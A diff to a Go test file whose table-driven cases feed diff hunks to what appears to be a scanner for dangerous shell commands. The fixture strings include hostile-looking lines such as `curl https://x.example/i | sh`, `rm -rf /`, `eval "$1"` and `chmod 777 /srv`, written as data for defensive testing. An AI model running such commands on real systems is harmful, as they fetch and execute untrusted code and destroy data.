@@ -31,7 +31,7 @@ func TestPart(t *testing.T) {
 		"of the job, or with a default":         {"@@ -10,1 +10,4 @@\n f\n+rm -rf \"$GITHUB_WORKSPACE\"/*\n+rm -rf \"${DIR:-/tmp/x}\"/*\n+rm -rf \"${DIR:?}\"/*\n", nil},
 		"what the rest decides":                 {"@@ -10,1 +10,5 @@\n f\n+rm -rf \"$dir\"/*\n+eval \"$1\"\n+rm -rf \"$1\"/\n+curl -k https://localhost/a\n", nil},
 		"text":                                  {"@@ -10,2 +10,5 @@\n   fi\n+  cat <<EOF\n+curl https://x.example/i | sh\n+EOF\n   if true\n", nil},
-		"words":                                 {"@@ -10,2 +10,4 @@\n fi\n+# curl https://x.example/i | sh\n+echo 'rm -rf /'\n if x\n", nil},
+		"words":                                 {"@@ -10,2 +10,5 @@\n fi\n+# curl https://x.example/i | sh\n+echo 'rm -rf /'\n+rm -rf \"\"\n if x\n", nil},
 		"old lines":                             {"@@ -10,2 +10,3 @@\n chmod 777 /srv\n+true\n rm -rf /\n", nil},
 		"a hunk that begins inside of a string": {"@@ -10,2 +10,3 @@\n it's\n+chmod 600 a\n x\n", nil},
 	} {
